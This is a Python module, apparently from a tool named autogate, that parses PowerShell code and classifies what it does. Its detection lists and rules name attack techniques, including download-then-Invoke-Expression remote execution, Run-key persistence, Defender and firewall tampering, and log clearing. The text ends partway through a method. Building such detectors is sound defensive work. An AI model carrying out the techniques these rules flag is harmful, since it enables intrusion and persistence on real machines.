"""PowerShell: its cmdlets by what they do, its aliases, script blocks and the .NET calls in common use."""

from __future__ import annotations

import re
from typing import NamedTuple

from autogate.effects import Effect, Kind, Outcome, RunCode, RunCommand, RunFile
from autogate.knowledge.languages._reader import NotReadError, Reader
from autogate.knowledge.languages.common import (
    ENVIRONMENT,
    HOME,
    LIMIT,
    at_home,
    distinct,
    opened,
    strip_markers,
    uncertain,
    unknown_part,
    variable_read,
    with_unknown,
)
from autogate.words.values import QUESTION, STAR, UNKNOWN, is_static

_ALIASES = {
    "gc": "get-content", "type": "get-content", "gci": "get-childitem", "dir": "get-childitem", "gi": "get-item", "gl": "get-location", "gm": "get-member", "gps": "get-process", "gsv": "get-service", "gcm": "get-command",
    "select": "select-object", "where": "where-object", "?": "where-object", "foreach": "foreach-object", "%": "foreach-object", "group": "group-object", "measure": "measure-object", "ft": "format-table", "fl": "format-list",
    "fw": "format-wide", "sls": "select-string", "iwr": "invoke-webrequest", "irm": "invoke-restmethod", "iex": "invoke-expression", "icm": "invoke-command", "saps": "start-process", "start": "start-process", "spps": "stop-process",
    "ri": "remove-item", "del": "remove-item", "erase": "remove-item", "rd": "remove-item", "ni": "new-item", "md": "mkdir", "ci": "copy-item", "cpi": "copy-item", "copy": "copy-item", "mi": "move-item", "move": "move-item", "ren": "rename-item",
    "rni": "rename-item", "sc": "set-content", "ac": "add-content", "clc": "clear-content", "sl": "set-location", "chdir": "set-location", "ipmo": "import-module", "oh": "out-host", "h": "get-history", "ihy": "invoke-history",
    "sp": "set-itemproperty", "rp": "remove-itemproperty", "si": "set-item", "cli": "clear-item", "ipcsv": "import-csv", "epcsv": "export-csv", "sasv": "start-service", "spsv": "stop-service", "sajb": "start-job", "nal": "new-alias",
    "sal": "set-alias", "gv": "get-variable", "sv": "set-variable", "tnc": "test-netconnection", "echo": "write-output", "write": "write-output", "compare": "compare-object", "pushd": "push-location", "popd": "pop-location", "cls": "clear-host",
}  # fmt: skip
_UNIX = {"ls": "get-childitem", "cat": "get-content", "rm": "remove-item", "rmdir": "remove-item", "cp": "copy-item", "mv": "move-item", "sort": "sort-object", "tee": "tee-object", "kill": "stop-process", "ps": "get-process", "sleep": "start-sleep", "cd": "set-location", "pwd": "get-location", "clear": "clear-host", "diff": "compare-object", "curl": "invoke-webrequest", "wget": "invoke-webrequest", "mkdir": "new-item", "man": "get-help"}  # fmt: skip
"""Aliases on Windows that are programs elsewhere: taken for the cmdlet where a cmdlet's parameter follows."""
_PURE = frozenset(
    """select-object where-object sort-object group-object measure-object compare-object out-string out-host out-null out-default out-gridview
    write-output write-host write-error write-warning write-verbose write-debug write-information write-progress join-path split-path convert-path resolve-path
    new-timespan new-guid start-sleep set-location push-location pop-location set-variable new-variable clear-variable remove-variable clear-host
    join-string tee-variable read-host set-strictmode new-object-safe update-typedata measure-command foreach-object wait-job receive-job remove-job
    set-psdebug_ write-progress new-alias_ select-xml test-path test-modulemanifest test-json""".split()
)
_GET_NOT = frozenset(
    "get-content get-childitem get-item get-secret get-credential get-clipboard get-history get-childitem get-acl get-filehash get-itemproperty get-itempropertyvalue".split()
)
_EFFECTS: dict[str, tuple[str, ...]] = {
    # the operation of each positional argument
    "get-content": ("read",), "get-childitem": ("list",), "get-item": ("list",), "get-acl": ("list",), "get-filehash": ("read",), "get-itemproperty": ("list",), "get-itempropertyvalue": ("list",), "select-string": ("", "read"),
    "import-csv": ("read",), "import-clixml": ("read",), "import-powershelldatafile": ("read",), "set-content": ("write",), "add-content": ("append",), "clear-content": ("write",), "out-file": ("write",), "tee-object": ("write",),
    "export-csv": ("write",), "export-clixml": ("write",), "new-item": ("create",), "mkdir": ("create",), "copy-item": ("read", "write"), "move-item": ("move",), "rename-item": ("move",), "remove-item": ("delete",), "clear-item": ("write",),
    "compress-archive": ("read", "write"), "expand-archive": ("read", "unpack"), "set-acl": ("mode",), "start-transcript": ("append",),
}  # fmt: skip
_ROLES = {
    "path": 0, "literalpath": 0, "filepath": 0, "pattern": -1, "destination": 1, "destinationpath": 1, "outfile": 0, "newname": 1, "value": -1, "itemtype": -1, "encoding": -1, "delimiter": -1, "filter": -1, "include": -1, "exclude": -1, "name": -1,
    "totalcount": -1, "tail": -1, "head": -1, "first": -1, "last": -1, "depth": -1, "inputobject": -1, "property": -1, "type": -1, "stream": -1, "width": -1, "aclobject": -1, "attributes": -1, "readcount": -1, "erroraction": -1, "warningaction": -1, "variable": -1,
    "errorvariable": -1, "outvariable": -1, "algorithm": -1, "compressionlevel": -1, "context": -1, "ea": -1,
}  # fmt: skip
_SECURITY = frozenset(
    """set-executionpolicy set-mppreference add-mppreference remove-mppreference new-netfirewallrule set-netfirewallrule remove-netfirewallrule
    set-netfirewallprofile disable-netfirewallrule enable-netfirewallrule new-localuser set-localuser remove-localuser enable-localuser disable-localuser add-localgroupmember
    remove-localgroupmember clear-eventlog remove-eventlog limit-eventlog enable-psremoting disable-psremoting set-authenticodesignature disable-windowsoptionalfeature
    enable-windowsoptionalfeature uninstall-windowsfeature set-item-wsman disable-bitlocker enable-bitlocker suspend-bitlocker set-adaccountpassword new-aduser set-aduser
    remove-aduser add-adgroupmember unlock-adaccount clear-history set-psreadlineoption""".split()
)
_SYSTEM = frozenset(
    """stop-service start-service restart-service set-service suspend-service resume-service remove-service set-date set-timezone rename-computer add-computer
    remove-computer set-netipaddress new-netipaddress remove-netipaddress set-dnsclientserveraddress disable-netadapter enable-netadapter restart-netadapter new-netroute
    remove-netroute mount-diskimage dismount-diskimage set-disk set-partition new-partition new-volume resize-partition optimize-volume set-itemproperty new-itemproperty
    remove-itemproperty rename-itemproperty set-item clear-itemproperty set-wmiinstance set-ciminstance remove-ciminstance invoke-wmimethod invoke-cimmethod
    checkpoint-computer restore-computer stop-vm remove-vm start-vm""".split()
)
_DISKS = frozenset(
    "format-volume clear-disk initialize-disk remove-partition remove-physicaldisk remove-virtualdisk reset-physicaldisk".split()
)
_PERSIST = frozenset(
    "register-scheduledtask new-scheduledtask set-scheduledtask new-service register-scheduledjob register-wmievent register-cimindicationevent".split()
)
_TYPES = frozenset("math string int int32 int64 long double float decimal bool char byte datetime timespan guid array convert regex version uri text.encoding system.text.encoding system.math system.datetime system.string system.guid system.convert system.io.path io.path pscustomobject psobject ordered hashtable xml system.environment environment system.collections.arraylist system.version type void switch object object[] string[] int[] byte[] system.uri system.timespan globalization.cultureinfo consolecolor system.random random char[] uint32 uint64 single bigint psnoteproperty".split())  # fmt: skip
_METHODS = frozenset("tostring split replace trim trimstart trimend toupper tolower substring indexof lastindexof contains startswith endswith padleft padright insert remove length count add addrange tochararray gettype equals compareto adddays addhours addminutes addseconds addmonths addyears tostring tolocaltime touniversaltime toshortdatestring getenumerator containskey containsvalue keys values toarray join where foreach getbytes getstring tobase64string frombase64string parse tryparse round floor ceiling max min abs pow sqrt newguid format isnullorempty isnullorwhitespace concat now utcnow today combine getfilename getfileextension getextension getdirectoryname getfilenamewithoutextension getfullpath gettemppath matches match ismatch escape next clone sort reverse indexof copyto isdigit isletter dispose".split())  # fmt: skip
_ENVIRONMENT_MEMBERS = frozenset(
    "machinename osversion username processorcount currentdirectory newline version is64bitprocess is64bitoperatingsystem userdomainname tickcount getfolderpath commandline".split()
)
_KEYWORDS = frozenset(
    "if else elseif foreach for while do until switch try catch finally return break continue exit param function filter begin process end throw in".split()
)
_MODULES = frozenset(
    "microsoft.powershell.utility microsoft.powershell.management microsoft.powershell.archive psreadline".split()
)

_word_end = re.compile(r"[\s;|&(){},]")
_variable = re.compile(r"\$(?:\{[^}]*\}|(?:[A-Za-z_]\w*:)?[A-Za-z_]\w*|[$?^_])")


class _Word(NamedTuple):
    kind: str
    """``word`` bare, ``text`` quoted, ``var``, ``group`` (its code was read), ``block``, ``op``."""
    value: str
    glued: bool = False


def outcomes(
    text: str, arguments: tuple[str, ...] = (), options: tuple[str, ...] = ()
) -> tuple[Outcome, ...]:
    """What the code does beyond computing and printing."""
    del arguments, options
    if len(text) > LIMIT:
        return (uncertain("powershell", "very long code"),)
    out: list[Outcome] = [] if is_static(text) else [unknown_part("powershell")]
    reader = _Reader(strip_markers(text))
    try:
        reader.block("", 0)
    except NotReadError as problem:
        reader.doubt(str(problem))
    reader.finish()
    return distinct([*(at_home(o) for o in reader.out), *out])


class _Reader(Reader):
    """Reads statement by statement, blocks within blocks."""

    language = "powershell"

    def __init__(self, text: str) -> None:
        self.text = text
        self.at = 0
        self.out: list[Outcome] = []
        self.values: dict[str, str] = {}
        self.functions: set[str] = {
            match[1].lower()
            for match in re.finditer(r"\b(?:function|filter)\s+([\w-]+)", text, re.IGNORECASE)
        }
        self.assigned: dict[str, int] = {}
        for match in re.finditer(r"\$(\w+)\s*(?:[-+*/]?=)(?!=)", text):
            self.assigned[match[1].lower()] = self.assigned.get(match[1].lower(), 0) + 1
        self.downloads = False
        self.executes = False
        self.nested = 0

    def finish(self) -> None:
        """A download and an execution of a text in one code are a remote code."""
        if self.downloads and self.executes:
            self.out.append(
                Effect(
                    Kind.EXECUTE, "code that comes over the network", "Invoke-Expression", force="critical"
                )
            )

    # reading

    def block(self, closing: str, depth: int) -> None:
        """Reads statements up to the closing bracket, "" for the end of the text."""
        if depth > 40:
            raise NotReadError("deep nesting")
        pipeline: list[list[_Word]] = [[]]
        while True:
            word = self._next(closing, depth)
            if word is None:
                self._pipeline(pipeline)
                return
            if word.kind == "op" and word.value in (";", "\n"):
                self._pipeline(pipeline)
                pipeline = [[]]
            elif word.kind == "op" and word.value in ("|", "||", "&&"):
                pipeline.append([])
            else:
                pipeline[-1].append(word)

    def _next(self, closing: str, depth: int) -> _Word | None:
        text = self.text
        start = self.at
        while self.at < len(text):
            char = text[self.at]
            if char == "`" and text[self.at + 1 : self.at + 2] in ("\n", "\r"):
                self.at += 2
            elif char in " \t\r\f\v":
                self.at += 1
            elif text.startswith("<#", self.at):
                end = text.find("#>", self.at)
                if end < 0:
                    raise NotReadError("a comment without end")
                self.at = end + 2
            elif char == "#" and (self.at == start or not self.at or text[self.at - 1] in " \t\n;|(){}"):
                end = text.find("\n", self.at)
                self.at = len(text) if end < 0 else end
            else:
                break
        if self.at >= len(text):
            if closing:
                raise NotReadError("a bracket without end")
            return None
        glued = self.at == start
        char = text[self.at]
        if char == closing:
            self.at += 1
            return None
        if char in ")}":
            raise NotReadError("brackets that do not match")
        if text.startswith(("@'", '@"'), self.at):
            raise NotReadError("a here-string")
        if char in "'\u2018\u2019":
            return self._single(glued)
        if char in '"\u201c\u201d':
            return self._double(glued, depth)
        if char == "$" and text[self.at + 1 : self.at + 2] == "(":
            self.at += 2
            self.block(")", depth + 1)
            return _Word("group", UNKNOWN, glued)
        if char == "@" and text[self.at + 1 : self.at + 2] in ("(", "{"):
            closing_char = ")" if text[self.at + 1] == "(" else "}"
            self.at += 2
            if closing_char == "}":
                self._hashtable(depth)
            else:
                self.block(")", depth + 1)
            return _Word("group", UNKNOWN, glued)
        if char in "({":
            self.at += 1
            begin = self.at
            self.block(")" if char == "(" else "}", depth + 1)
            return _Word("group" if char == "(" else "block", with_unknown(text[begin : self.at - 1]), glued)
        match = _variable.match(text, self.at)
        if match is not None:
            self.at = match.end()
            self._variable(match[0])
            return _Word("var", match[0].strip("${}").lower(), glued)
        for operator in (
            "||",
            "&&",
            ">>",
            "2>&1",
            "2>",
            "+=",
            "-=",
            "*=",
            "/=",
            "::",
            ";",
            "\n",
            "|",
            "&",
            ">",
            "<",
            ",",
            "=",
            "[",
            "]",
            "!",
        ):
            if text.startswith(operator, self.at):
                self.at += len(operator)
                return _Word("op", operator, glued)
        if char == "@":
            raise NotReadError("splatting")
        begin = self.at
        parts: list[str] = []
        while self.at < len(text) and not _word_end.match(text[self.at]) and text[self.at] not in "'\"$[]=<>":
            if text[self.at] == "`":
                self.at += 1
            if self.at < len(text):
                parts.append(text[self.at])
            self.at += 1
            if text.startswith("::", self.at):
                break
        if self.at == begin:
            raise NotReadError(f"the character {char!r}")
        return _Word("word", with_unknown("".join(parts)), glued)

    def _single(self, glued: bool) -> _Word:
        match = re.compile(r"['\u2018\u2019]((?:[^'\u2018\u2019]|['\u2018\u2019]{2})*)['\u2018\u2019]").match(
            self.text, self.at
        )
        if match is None:
            raise NotReadError("a text without end")
        self.at = match.end()
        return _Word("text", with_unknown(re.sub("['\u2018\u2019]{2}", "'", match[1])), glued)

    def _double(self, glued: bool, depth: int) -> _Word:
        text = self.text
        self.at += 1
        parts: list[str] = []
        while self.at < len(text):
            char = text[self.at]
            if char in '"\u201c\u201d':
                if text[self.at + 1 : self.at + 2] == char:
                    parts.append('"')
                    self.at += 2
                    continue
                self.at += 1
                return _Word("text", re.sub("\x00+", "\x00", with_unknown("".join(parts))), glued)
            if char == "`":
                parts.append(
                    {"n": "\n", "t": "\t", "r": "\r", "0": UNKNOWN}.get(
                        text[self.at + 1 : self.at + 2], text[self.at + 1 : self.at + 2]
                    )
                )
                self.at += 2
                continue
            if text.startswith("$(", self.at):
                self.at += 2
                self.block(")", depth + 1)
                parts.append(UNKNOWN)
                continue
            match = _variable.match(text, self.at)
            if match is not None:
                self.at = match.end()
                self._variable(match[0])
                parts.append(self._value_of(match[0].strip("${}").lower()))
                continue
            parts.append(char)
            self.at += 1
        raise NotReadError("a text without end")

    def _hashtable(self, depth: int) -> None:
        """``@{ key = value; … }``: the values are read as statements."""
        pipeline: list[list[_Word]] = [[]]
        while True:
            word = self._next("}", depth + 1)
            if word is None or (word.kind == "op" and word.value in (";", "\n")):
                words = pipeline[0]
                if len(words) > 1 and words[1].value == "=":
                    pipeline[0] = words[2:]
                    self._pipeline(pipeline)
                elif words:
                    self.doubt("a table")
                if word is None:
                    return
                pipeline = [[]]
            elif word.kind == "op" and word.value == "|":
                pipeline.append([])
            else:
                pipeline[-1].append(word)

    def _variable(self, word: str) -> None:
        name = word.strip("${}")
        if name.lower().startswith("env:"):
            rest = self.text[self.at : self.at + 4].lstrip()
            if rest.startswith(("=", "+=")) and not rest.startswith("=="):
                self.doubt("a change of the environment")
            else:
                self.out.extend(variable_read(name[4:]))
        elif ":" in name and not name.lower().startswith(("script:", "global:", "local:", "using:")):
            self.doubt(f"the variable {name}")
        elif name.lower() in ("executioncontext", "psdefaultparametervalues", "profile", "pscmdlet"):
            self.doubt(f"${name}")

    def _value_of(self, name: str) -> str:
        if name in ("home", "env:home", "env:userprofile"):
            return HOME
        if name == "pwd":
            return "."
        return self.values.get(name, UNKNOWN) if self.assigned.get(name, 0) == 1 else UNKNOWN

    # statements

    def _pipeline(self, pipeline: list[list[_Word]]) -> None:
        for words in pipeline:
            if words:
                self._command(words)

    def _command(self, words: list[_Word]) -> None:
        words = self._redirections(words)
        if not words:
            return
        self.nested += 1
        if self.nested > 100:
            self.doubt("deep nesting")
        else:
            self._one(words)
        self.nested -= 1

    def _one(self, words: list[_Word]) -> None:
        head = words[0]
        if (
            head.kind == "var"
            and len(words) > 1
            and words[1].kind == "op"
            and words[1].value in ("=", "+=", "-=", "*=", "/=")
        ):
            rest = words[2:]
            if len(rest) == 1 and rest[0].kind == "text" and words[1].value == "=":
                self.values[head.value] = rest[0].value
            elif rest:
                self._command(rest)
            return
        if head.kind == "op" and head.value == "&":
            self._called(words[1:])
            return
        if head.kind == "word" and head.value == "." and len(words) > 1 and not words[1].glued:
            self._called(words[1:])
            return
        if (
            head.kind in ("var", "text", "group", "block")
            or (head.kind == "op" and head.value in ("[", "!", ","))
            or (re.match(r"[-+.0-9]", head.value) and not re.match(r"\.{0,2}[/\\]", head.value))
        ):
            self._expression(words)
            return
        name = head.value.lower()
        if name in _KEYWORDS and head.kind == "word":
            self._keyword(name, words)
            return
        self._expressions_in(words[1:])
        self._cmdlet(name, words[1:], head)

    def _expressions_in(self, words: list[_Word]) -> None:
        """Members and types among the arguments of a command."""
        at = 0
        while at < len(words):
            end = at + 1
            while (
                end < len(words)
                and (words[end].glued or (words[at].value == "[" and words[end - 1].value != "]"))
                and words[end].value != ","
            ):
                end += 1
            run = words[at:end]
            if run[0].value == "[" or (
                len(run) > 1 and run[0].kind in ("group", "var", "text") and run[1].value.startswith(".")
            ):
                self._expression(run)
            at = end

    def _redirections(self, words: list[_Word]) -> list[_Word]:
        out: list[_Word] = []
        at = 0
        while at < len(words):
            word = words[at]
            if word.kind == "op" and word.value in (">", ">>", "2>"):
                target = words[at + 1] if at + 1 < len(words) else _Word("word", UNKNOWN)
                value = self._text(target)
                if target.value.lower() not in ("null", "$null") and not (
                    target.kind == "var" and target.value == "null"
                ):
                    self.out.extend(opened(value, "append" if word.value == ">>" else "write"))
                at += 2
                continue
            if word.kind == "op" and word.value == "2>&1":
                at += 1
                continue
            out.append(word)
            at += 1
        return out

    def _called(self, words: list[_Word]) -> None:
        """``& command`` and ``. script``."""
        if not words:
            return
        head = words[0]
        if head.kind == "block":
            return
        if head.kind in ("text", "word"):
            name = head.value.lower()
            if name.endswith(".ps1"):
                self.out.append(RunFile(head.value, "powershell"))
            else:
                self._cmdlet(name, words[1:], head)
        elif head.kind == "var" and is_static(self._value_of(head.value)):
            self._cmdlet(
                self._value_of(head.value).lower(), words[1:], head._replace(value=self._value_of(head.value))
            )
        else:
            self.doubt("a call of what is computed")

    def _keyword(self, name: str, words: list[_Word]) -> None:
        if name in (
            "return",
            "throw",
            "exit",
            "in",
            "do",
            "else",
            "try",
            "finally",
            "begin",
            "process",
            "end",
        ):
            rest = words[1:]
            if rest and rest[0].kind != "block":
                self._command(rest)
            elif len(rest) > 1:
                self._command(rest[1:])
        elif name in (
            "if",
            "elseif",
            "while",
            "foreach",
            "for",
            "switch",
            "until",
            "catch",
            "function",
            "filter",
            "param",
        ):
            # conditions and bodies are groups and blocks: read already; what follows is the next statement
            rest = words[1:]
            if name in ("function", "filter"):
                rest = rest[1:]
            if name == "catch":
                while rest and rest[0].kind != "block":
                    rest = rest[1:]
            while rest and rest[0].kind in ("group", "block"):
                rest = rest[1:]
            if rest:
                self._command(rest)

    def _text(self, word: _Word) -> str:
        if word.kind == "word":
            value = re.sub(r"^~(?=[/\\]|$)", HOME, word.value)
            return value.replace("*", STAR).replace("?", QUESTION)
        if word.kind == "text":
            return word.value.replace("*", STAR).replace("?", QUESTION)
        return self._value_of(word.value) if word.kind == "var" else UNKNOWN

    def _expression(self, words: list[_Word]) -> None:
        """Data, operators, methods of data and of accepted types."""
        at = 0
        while at < len(words):
            word = words[at]
            if word.kind == "op" and word.value == "[":
                end = next(
                    (i for i in range(at, len(words)) if words[i].kind == "op" and words[i].value == "]"),
                    len(words),
                )
                name = "".join(w.value for w in words[at + 1 : end]).lower()
                index = (at > 0 and word.glued and words[at - 1].kind in ("var", "group", "text")) or (
                    at > 0 and words[at - 1].value == "]"
                )
                if not index:
                    name_of = (
                        words[end + 2].value.lower()
                        if end + 2 < len(words) and words[end + 1].value == "::"
                        else ""
                    )
                    member, _, further = name_of.partition(".")
                    called = end + 3 < len(words) and words[end + 3].kind == "group"
                    if further and called and further.rpartition(".")[2] not in _METHODS:
                        self.doubt(f"the method {further}")
                    self._type(name, member, words[end + 3 :] if member else [])
                    if member:
                        at = end + 3
                        continue
                at = end + 1
                continue
            if word.kind == "word" and word.value.startswith(".") and word.glued and at > 0:
                called = at + 1 < len(words) and words[at + 1].kind == "group" and words[at + 1].glued
                names = word.value.lower().strip(".").split(".")
                if word.value == ".":
                    self.doubt("a member by name")
                if called and names[-1] not in _METHODS:
                    self._method(names[-1], words[at + 1 :])
                elif any(
                    n in ("psobject", "invoke", "invokereturnasis", "getmethod", "gettype", "assembly")
                    and n != "gettype"
                    for n in names
                ):
                    self.doubt(f"the member {names[-1]}")
            elif word.kind == "op" and word.value == "::":
                self.doubt("a member of a type that is computed")
            elif word.kind == "op" and word.value == "&":
                self.doubt("a call of what is computed")
            elif word.kind == "op" and word.value == "=" and at > 0:
                self._command(words[at + 1 :]) if at + 1 < len(words) else None
                return
            elif word.kind == "word" and not re.fullmatch(
                r"-?[\d.]+[a-z]{0,2}|-[a-z]+|\.\.|[-+*/%]|\+\+|--|\.[\w.]+|-?\w*", word.value, re.IGNORECASE
            ):
                self.doubt(f"the expression {word.value}")
            at += 1

    def _type(self, name: str, member: str, rest: list[_Word]) -> None:
        arguments = [
            self._text(_Word("text", match[1]))
            for w in rest[:1]
            if w.kind == "group"
            for match in re.finditer(r"['\"]([^'\"]*)['\"]", w.value)
        ]
        first = arguments[0] if arguments else UNKNOWN
        short = name.removeprefix("system.")
        if short in ("io.file", "io.directory"):
            deletes = {"delete": Effect(Kind.DELETE, first, recursive=short == "io.directory")}
            if member in deletes:
                self.out.append(deletes[member])
            elif member.startswith(
                ("readall", "readlines", "open", "getfiles", "enumerate", "getdirectories")
            ) and member not in ("openwrite", "open"):
                self.out.extend(opened(first))
            elif member.startswith(("writeall", "create", "openwrite", "appendall")):
                self.out.extend(opened(first, "append" if member.startswith("append") else "write"))
            elif member == "exists":
                return
            else:
                self.doubt(f"[{name}]::{member}")
        elif short == "environment" and member:
            if member == "getenvironmentvariable":
                self.out.extend(variable_read(first))
            elif member not in _ENVIRONMENT_MEMBERS:
                self.doubt(f"[{name}]::{member}")
        elif name in _TYPES or name.replace(" ", "") in _TYPES:
            if (
                member
                and member not in _METHODS
                and member
                not in (
                    "maxvalue",
                    "minvalue",
                    "empty",
                    "pi",
                    "e",
                    "utf8",
                    "ascii",
                    "unicode",
                    "default",
                    "new",
                    "separator",
                    "directoryseparatorchar",
                    "tobyte",
                    "toint32",
                    "tostring",
                    "invariantculture",
                )
            ):
                self.doubt(f"[{name}]::{member}")
        else:
            self.doubt(f"[{name}]{'::' if member else ''}{member}")

    def _method(self, name: str, rest: list[_Word]) -> None:
        match = re.search(r"['\"]([^'\"]*)['\"]", rest[0].value) if rest else None
        first = match[1] if match is not None else UNKNOWN
        if name in ("downloadstring", "downloaddata", "openread"):
            self.downloads = True
            self.out.append(Effect(Kind.NETWORK, first, "download"))
        elif name == "downloadfile":
            self.out.append(Effect(Kind.NETWORK, first, "download"))
            found = re.findall(r"['\"]([^'\"]*)['\"]", rest[0].value)
            self.out.extend(opened(found[1] if len(found) > 1 else UNKNOWN, "write"))
        elif name in ("uploadstring", "uploadfile", "uploaddata"):
            self.out.append(Effect(Kind.NETWORK, first, "upload"))
        else:
            self.doubt(f"the method {name}")

    # commands

    def _parameters(self, words: list[_Word]) -> tuple[dict[str, list[_Word]], list[_Word]]:
        """Named parameters with what follows them, and the positional arguments."""
        named: dict[str, list[_Word]] = {}
        positional: list[_Word] = []
        at = 0
        while at < len(words):
            word = words[at]
            if word.kind == "word" and re.match(r"-[A-Za-z]", word.value):
                name, _, attached = word.value[1:].partition(":")
                name = name.lower()
                values: list[_Word] = [_Word("word", attached)] if attached else []
                if (
                    not attached
                    and name not in _SWITCHES
                    and at + 1 < len(words)
                    and not (words[at + 1].kind == "word" and re.match(r"-[A-Za-z]", words[at + 1].value))
                ):
                    at += 1
                    values.append(words[at])
                    while at + 2 < len(words) and words[at + 1].kind == "op" and words[at + 1].value == ",":
                        values.append(words[at + 2])
                        at += 2
                named[name] = values
            elif not (word.kind == "op" and word.value == ","):
                positional.append(word)
            elif positional and at + 1 < len(words):
                at += 1
                positional[-1] = positional[-1]._replace(
                    kind="list", value=f"{self._text(positional[-1])}\n{self._text(words[at])}"
                )
            at += 1
        return named, positional

    def _cmdlet(self, name: str, words: list[_Word], head: _Word) -> None:
        if name in self.functions:
            return
        named, positional = self._parameters(words)
        canonical = _ALIASES.get(name, name)
        if name in _UNIX:
            if (
                any(_is_parameter(key) for key in named)
                or name in ("cd", "pwd", "sleep", "clear")
                or (name in ("sort", "diff", "tee", "ps", "ls", "cat") and not words)
            ):
                canonical = _UNIX[name]
            elif name in (
                "curl",
                "wget",
                "mkdir",
                "rm",
                "ls",
                "cat",
                "cp",
                "mv",
                "kill",
                "ps",
                "sort",
                "tee",
                "diff",
                "rmdir",
                "man",
            ):
                self.out.append(RunCommand((head.value, *[self._text(word) for word in words])))
                return
        if (
            canonical in ("where-object", "foreach-object")
            and positional
            and positional[0].kind not in ("block", "word")
        ):
            self.doubt(f"{canonical} of what is computed")
        if "whatif" in named:
            return
        if canonical == "foreach-object" and positional and positional[0].kind == "word":
            if positional[0].value.lower() not in _METHODS and not positional[0].value.isalpha():
                self.doubt("foreach-object of a member")
            if positional[0].value.lower() in ("delete", "kill", "stop", "invoke", "moveto", "copyto"):
                self.doubt(f"the method {positional[0].value}")
            return
        if canonical in _EFFECTS:
            self._files(canonical, named, positional)
        elif canonical == "invoke-expression":
            self._invoke_expression(named, positional)
        elif canonical in ("invoke-webrequest", "invoke-restmethod"):
            self._request(named, positional)
        elif canonical in _PURE or (
            canonical.startswith(
                ("get-", "format-", "convertto-", "convertfrom-", "measure-", "test-", "show-")
            )
            and canonical not in _GET_NOT
            and canonical not in _DISKS
        ):
            if canonical in ("test-connection", "test-netconnection"):
                self.out.append(
                    Effect(
                        Kind.NETWORK, self._first(named, positional, "computername", "targetname"), "request"
                    )
                )
            if canonical.startswith("get-ad") or canonical in ("get-credential", "get-clipboard"):
                return
        elif canonical in ("get-secret", "get-storedcredential"):
            self.out.append(Effect(Kind.SECRET, self._first(named, positional, "name")))
        elif canonical in _SECURITY:
            self.out.append(
                Effect(
                    Kind.SECURITY,
                    canonical,
                    self._first(named, positional, "executionpolicy")
                    if canonical == "set-executionpolicy"
                    else "",
                    force="high",
                )
            )
        elif canonical in _SYSTEM:
            where = self._first(named, positional, "path", "name")
            if canonical.endswith("itemproperty") and re.search(r"\\run(once)?\b", where, re.IGNORECASE):
                self.out.append(Effect(Kind.PERSIST, where, canonical))
            elif canonical == "set-item" and where.lower().startswith("env:"):
                self.doubt("a change of the environment")
            else:
                self.out.append(Effect(Kind.SYSTEM, where, canonical))
        elif canonical in _DISKS:
            self.out.append(
                Effect(
                    Kind.SYSTEM,
                    self._first(named, positional, "driveletter", "number"),
                    canonical,
                    force="critical",
                )
            )
        elif canonical in ("stop-computer", "restart-computer"):
            self.out.append(Effect(Kind.SYSTEM, "the machine", canonical, force="high"))
        elif canonical in _PERSIST:
            self.out.append(
                Effect(Kind.PERSIST, self._first(named, positional, "taskname", "name"), canonical)
            )
        elif canonical == "stop-process":
            self.out.append(Effect(Kind.PROCESS, self._first(named, positional, "name", "id"), "stop"))
        else:
            self._other(canonical, named, positional, words, head)

    def _other(
        self,
        name: str,
        named: dict[str, list[_Word]],
        positional: list[_Word],
        words: list[_Word],
        head: _Word,
    ) -> None:
        if name == "start-process":
            program = self._first(named, positional, "filepath")
            given = named.get("argumentlist", positional[1:2])
            arguments = [word for value in given for word in self._text(value).split("\n")]
            if self._text((named.get("verb") or [_Word("word", "")])[0]).lower() == "runas":
                self.out.append(Effect(Kind.PRIVILEGE, "administrator"))
            if any(key in named for key in ("credential", "redirectstandardinput", "environment")):
                self.doubt("start-process with unusual options")
            self.out.append(
                RunCommand((program, *[part for argument in arguments for part in argument.split(" ")]))
            )
        elif name in ("invoke-command", "start-job", "start-threadjob"):
            if "computername" in named or "session" in named or "hostname" in named:
                self.out.append(
                    Effect(Kind.REMOTE, self._first(named, [], "computername", "hostname"), "run")
                )
            blocks = [
                w
                for w in (*positional, *(v for values in named.values() for v in values))
                if w.kind == "block"
            ]
            if not blocks:
                self.doubt(f"{name} of what is not known")
        elif name == "new-object":
            kind = self._first(named, positional, "typename").lower().removeprefix("system.")
            if kind not in _TYPES and kind not in ("net.webclient", "io.streamreader", "io.memorystream"):
                self.doubt(f"new-object {kind}")
            if kind in ("net.sockets.tcpclient", "net.sockets.tcplistener"):
                self.out.append(Effect(Kind.NETWORK, UNKNOWN, "connect"))
        elif name in (
            "install-module",
            "install-package",
            "install-script",
            "update-module",
            "install-psresource",
            "save-module",
        ):
            self.out.append(Effect(Kind.INSTALL, self._first(named, positional, "name"), "user"))
        elif name == "import-module":
            module = self._first(named, positional, "name")
            if module.lower() not in _MODULES:
                self.doubt(f"the module {module}")
        elif name == "send-mailmessage":
            self.out.append(Effect(Kind.NETWORK, self._first(named, [], "smtpserver"), "upload"))
        elif name == "resolve-dnsname":
            self.out.append(Effect(Kind.NETWORK, self._first(named, positional, "name"), "request"))
        elif name == "start-bitstransfer":
            self.out.append(Effect(Kind.NETWORK, self._first(named, positional, "source"), "download"))
            self.out.extend(opened(self._first(named, positional[1:], "destination"), "write"))
        elif name in ("powershell", "pwsh", "powershell.exe", "pwsh.exe") or "-" not in name:
            if name.endswith(".ps1"):
                self.out.append(RunFile(head.value, "powershell"))
            elif re.fullmatch(r"[\w./\\:+-]+", head.value):
                program = head.value.replace("\\", "/")
                self.out.append(
                    RunCommand(
                        (
                            program,
                            *[
                                self._text(w) if w.kind != "group" else UNKNOWN
                                for w in words
                                if not (w.kind == "op" and w.value == ",")
                            ],
                        )
                    )
                )
            else:
                self.doubt(f"the command {name}")
        elif re.fullmatch(r"[a-z]+-[a-z]+", name) and not re.match(
            r"(git|docker|apt|pip|npm|kubectl)-", name
        ):
            self.doubt(f"the command {name}")
        else:
            self.out.append(RunCommand((head.value, *[self._text(w) for w in words])))

    def _first(self, named: dict[str, list[_Word]], positional: list[_Word], *names: str) -> str:
        for name in names:
            for key, values in named.items():
                if name.startswith(key) and len(key) > 1 and values:
                    return self._text(values[0])
        return self._text(positional[0]) if positional else UNKNOWN

    def _files(self, name: str, named: dict[str, list[_Word]], positional: list[_Word]) -> None:
        operations = _EFFECTS[name]
        paths: list[list[str]] = [[] for _ in operations]
        rest = list(positional)
        taken: set[int] = set()
        for key, values in named.items():
            matches = [role for role in _ROLES if role.startswith(key)]
            if key in _SWITCHES or any(switch.startswith(key) for switch in _SWITCHES if len(key) > 2):
                continue
